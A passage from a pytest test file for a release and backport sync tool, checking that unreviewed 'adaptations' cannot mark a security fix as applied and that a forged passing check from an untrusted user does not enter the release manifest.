        env, capsys, source=sec.marker.source, tree=f"{other.head_sha}^{{tree}}", pr=other.number
    )
    edit_marker(env, other.number, original=sec.marker.original, source=sec.marker.source)
    found = verify_errors(env, capsys)
    mine = [f for f in found if f.startswith(planted)]
    assert any("an adaptation must be reviewed and merged through its PR" in f for f in mine)
    assert any(f"#{other.number} is not the backport of" in f for f in mine), mine


def test_an_adaptation_pushed_straight_applies_no_fix(
    env: SyncEnv, capsys: pytest.CaptureFixture[str]
) -> None:
    """A commit pushed straight whose trailer names a security fix and whose recorded
    "adaptation" (exact interdiff, "reviewed in" the fix's own PR) is the fix undone: sync
    counted the fix applied and closed its PR `closed-applied`. An adaptation applies a fix
    only when the controller merged it through the fix's PR."""
    env.sync()
    sec = next(
        p
        for p in env.open_prs()
        if p.marker.kind == "backport" and "security" in p.labels and not p.draft
    )
    tip = _fgit(env, "rev-parse", "3.11.2-stable")
    plant_adaptation(env, capsys, source=sec.marker.source, tree=f"{tip}^{{tree}}", pr=sec.number)
    report = env.sync()
    assert not [a for a in report.applied if a.kind == "close"], report.applied
    assert env.new_forge().get_pr(sec.number).state == "open"


def test_the_manifest_names_only_checks_the_ci_reported(
    request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A passing status Mallory posts on the release commit is not a test the release passed:
    the manifest's `tested.checks` (which verify compares with the forge) names the CI's."""
    import json

    e = releasing(request, "local", tmp_path, monkeypatch)
    rpr = release_pr(e)
    e.new_forge().record_check(  # type: ignore[attr-defined]
        "security-audit",
        rpr.head_sha,
        "completed",
        "success",
        "",
        creator=MALLORY,  # type: ignore[attr-defined]
    )
    approve_release(e)
    assert tagged(e.sync()) == ["v3.11.2.1"]
    manifest = e.state / "releases" / "pyexample" / "v3.11.2.1" / "manifest.json"
    names = {c["name"] for c in json.loads(manifest.read_text())["tested"]["checks"]}
    assert names == {"local-ci"}, names
